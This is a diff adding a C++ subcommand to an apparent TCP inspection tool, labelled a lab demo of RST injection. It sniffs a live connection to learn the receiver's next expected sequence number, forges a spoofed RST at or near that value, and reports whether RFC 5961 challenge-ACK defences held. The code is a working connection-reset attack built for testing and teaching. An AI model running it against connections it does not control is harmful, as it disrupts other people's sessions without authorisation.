@@ -1,0 +1,191 @@
+// SPDX-License-Identifier: MIT
+#include "cmd/reset.hpp"
+
+#include <cstdio>
+
+#include "capture/segment_sniffer.hpp"
+#include "capture/tcp_crafter.hpp"
+#include "cmd/command.hpp"
+#include "cmd/packet_out.hpp"
+#include "core/ip_format.hpp"
+#include "core/port_list.hpp"
+#include "core/segment_line.hpp"
+#include "core/tcp_expectation.hpp"
+#include "core/tcp_flags_text.hpp"
+
+namespace tcpinspect::cmd {
+namespace {
+
+std::string filter_for(const ConnEnds& c) {
+  const std::string a = core::ip_to_string(c.a.ip);
+  const std::string b = core::ip_to_string(c.b.ip);
+  const std::string pa = std::to_string(c.a.port);
+  const std::string pb = std::to_string(c.b.port);
+  return "tcp and ((src host " + a + " and src port " + pa + " and dst host " + b +
+         " and dst port " + pb + ") or (src host " + b + " and src port " + pb + " and dst host " +
+         a + " and dst port " + pa + "))";
+}
+
+}  // namespace
+
+ConnEnds parse_conn(const std::string& text) {
+  const size_t comma = text.find(',');
+  if (comma == std::string::npos)
+    throw UsageError("--conn: '" + text + "' is not SRC:PORT,DST:PORT");
+  ConnEnds c;
+  try {
+    c.a = capture::parse_endpoint(text.substr(0, comma), "--conn SRC");
+    c.b = capture::parse_endpoint(text.substr(comma + 1), "--conn DST");
+  } catch (const capture::CaptureError& e) {
+    throw UsageError(e.what());
+  } catch (const core::ParseError& e) {
+    throw UsageError(e.what());
+  }
+  if (c.a.ip.version != c.b.ip.version)
+    throw UsageError("--conn: both ends must be IPv4 or both IPv6");
+  return c;
+}
+
+void add_reset_options(CLI::App& sub, ResetOptions& o) {
+  sub.add_option("--conn", o.conn, "SRC:PORT,DST:PORT of an established connection; DST is reset")
+      ->required();
+  sub.add_option("-i,--interface", o.interface, "Interface that sees the connection")->required();
+  sub.add_option("--offset", o.offset, "Send the RST this many bytes past RCV.NXT (challenge ACK)")
+      ->capture_default_str();
+  sub.add_option("--wait", o.wait_s, "Seconds to wait for a segment of the connection")
+      ->check(CLI::Range(1, 3600))
+      ->capture_default_str();
+  sub.add_option("--observe", o.observe_ms, "Milliseconds to keep watching after the RST")
+      ->check(CLI::Range(0, 60000))
+      ->capture_default_str();
+  sub.add_option("-w,--write", o.write_file, "Append the RST sent to this pcap");
+  sub.add_flag("--dry-run", o.dry_run, "Compute and print the RST, do not send it");
+}
+
+int run_reset(const ResetOptions& o) {
+  const ConnEnds c = parse_conn(o.conn);
+  require_raw_privilege("reset");
+  capture::SegmentSniffer sniffer(o.interface, filter_for(c));
+  PacketOut out(true, o.dry_run, o.write_file, c.a.ip.version, "reset");
+  const std::string a = core::endpoint_to_string(c.a.ip, c.a.port);
+  const std::string b = core::endpoint_to_string(c.b.ip, c.b.port);
+  std::printf("waiting up to %d s on %s for a segment of %s <-> %s (the RST goes to %s)\n",
+              o.wait_s, o.interface.c_str(), a.c_str(), b.c_str(), b.c_str());
+  std::fflush(stdout);
+
+  bool found = false;
+  uint32_t rcv_nxt = 0;
+  uint32_t b_window = 0;
+  bool b_window_seen = false;
+  std::string how;
+  const auto deadline_ms = static_cast<int64_t>(o.wait_s) * 1000;
+  const int64_t started = capture::wall_clock_ns();
+  while (!found && (capture::wall_clock_ns() - started) / 1'000'000 < deadline_ms) {
+    sniffer.pump(100, [&](const capture::SniffedSegment& s) {
+      const core::DecodedPacket& p = *s.packet;
+      if (p.result != core::DecodeResult::Tcp) return true;
+      const bool from_a = p.src == c.a.ip && p.tcp.src_port == c.a.port;
+      std::printf("observed %s\n", core::format_segment_line(p).c_str());
+      if (p.tcp.flags & core::kRst) {
+        std::printf("         a RST: this connection is already being torn down; waiting on\n");
+        return true;
+      }
+      if (p.tcp.flags & core::kSyn) {
+        std::printf("         handshake segment: not synchronized yet; waiting for the next one\n");
+        return true;
+      }
+      if (!from_a) {
+        b_window = p.tcp.window;
+        b_window_seen = true;
+      }
+      if (from_a) {
+        // B accepts next what follows this segment: seq + SEG.LEN (FIN counts one).
+        rcv_nxt = p.tcp.seq + core::segment_length(p.tcp.flags, p.payload_len);
+        how = "seq " + std::to_string(p.tcp.seq) + " + len " +
+              std::to_string(core::segment_length(p.tcp.flags, p.payload_len)) + " of " + a +
+              "'s segment";
+      } else if (p.tcp.flags & core::kAck) {
+        // B's own acknowledgment number is its RCV.NXT when it sent it.
+        rcv_nxt = p.tcp.ack;
+        how = "the ack " + b + " just sent";
+      } else {
+        return true;
+      }
+      found = true;
+      return false;
+    });
+  }
+  if (!found)
+    throw RunError("no usable segment of " + a + " <-> " + b + " within " +
+                   std::to_string(o.wait_s) + " s on " + o.interface);
+
+  capture::SegmentSpec spec;
+  spec.src = c.a.ip;
+  spec.dst = c.b.ip;
+  spec.src_port = c.a.port;
+  spec.dst_port = c.b.port;
+  spec.flags = core::kRst;
+  spec.seq = rcv_nxt + static_cast<uint32_t>(o.offset);
+  spec.window = 0;
+  spec.dont_fragment = true;
+  spec.ip_id = static_cast<uint16_t>(1 + random_u32() % 0xFFFF);
+  const std::vector<uint8_t> bytes = capture::craft_segment(spec);
+
+  const core::ReceiverWindow window{rcv_nxt, b_window_seen ? b_window : 65535u};
+  const core::SentSegment sent{spec.flags, spec.seq, 0, 0};
+  const core::Expectation e = core::expect_reply(core::PeerState::Established, sent, window);
+  std::printf("RCV.NXT of %s = %u (%s)\n", b.c_str(), rcv_nxt, how.c_str());
+  std::printf("RST seq=%u (RCV.NXT%s)\n", spec.seq,
+              o.offset == 0 ? ""
+                            : (o.offset > 0 ? " + " + std::to_string(o.offset)
+                                            : " - " + std::to_string(-o.offset))
+                                  .c_str());
+  std::printf("predicted: %s%s\n", core::describe_expectation(e, sent).c_str(),
+              b_window_seen ? "" : (" [window of " + b + " not seen; assumed 65535]").c_str());
+  const int64_t sent_at = out.emit(bytes, spec.dst);
+  if (!out.write_path().empty()) std::printf("wrote the RST to %s\n", out.write_path().c_str());
+  if (o.dry_run) return 0;
+
+  bool challenge = false;
+  bool b_spoke = false;
+  sniffer.pump(o.observe_ms, [&](const capture::SniffedSegment& s) {
+    const core::DecodedPacket& p = *s.packet;
+    if (p.result != core::DecodeResult::Tcp) return true;
+    const bool ours = p.src == c.a.ip && (p.tcp.flags & core::kRst) && p.tcp.seq == spec.seq;
+    const bool from_b = p.src == c.b.ip && p.tcp.src_port == c.b.port;
+    std::string note;
+    if (ours) {
+      note = "   (our RST)";
+    } else if (from_b) {
+      b_spoke = true;
+      if ((p.tcp.flags & (core::kAck | core::kRst | core::kSyn)) == core::kAck &&
+          p.tcp.ack == rcv_nxt && p.payload_len == 0) {
+        challenge = true;
+        note = "   <- challenge ACK: ack = RCV.NXT (RFC 5961 3.2), the RST was not accepted";
+      }
+    }
+    std::printf("+%-10s %s%s\n", format_ms(s.ts_ns - sent_at).c_str(),
+                core::format_segment_line(p).c_str(), note.c_str());
+    return true;
+  });
+  if (challenge)
+    std::printf("outcome: %s answered with a challenge ACK: the connection survives\n", b.c_str());
+  else if (!b_spoke)
+    std::printf(
+        "outcome: nothing from %s within %d ms: consistent with the RST being accepted "
+        "(its socket now reports ECONNRESET)\n",
+        b.c_str(), o.observe_ms);
+  else
+    std::printf("outcome: %s kept talking without a challenge ACK\n", b.c_str());
+  return 0;
+}
+
+void register_reset(CLI::App& app, Action& action) {
+  auto* sub = app.add_subcommand(
+      "reset", "Lab demo of RST injection: reset a connection at RCV.NXT (RFC 5961)");
+  auto options = std::make_shared<ResetOptions>();
+  add_reset_options(*sub, *options);
+  sub->callback([&action, options] { action = [options] { return run_reset(*options); }; });
+}
+
+}  // namespace tcpinspect::cmd
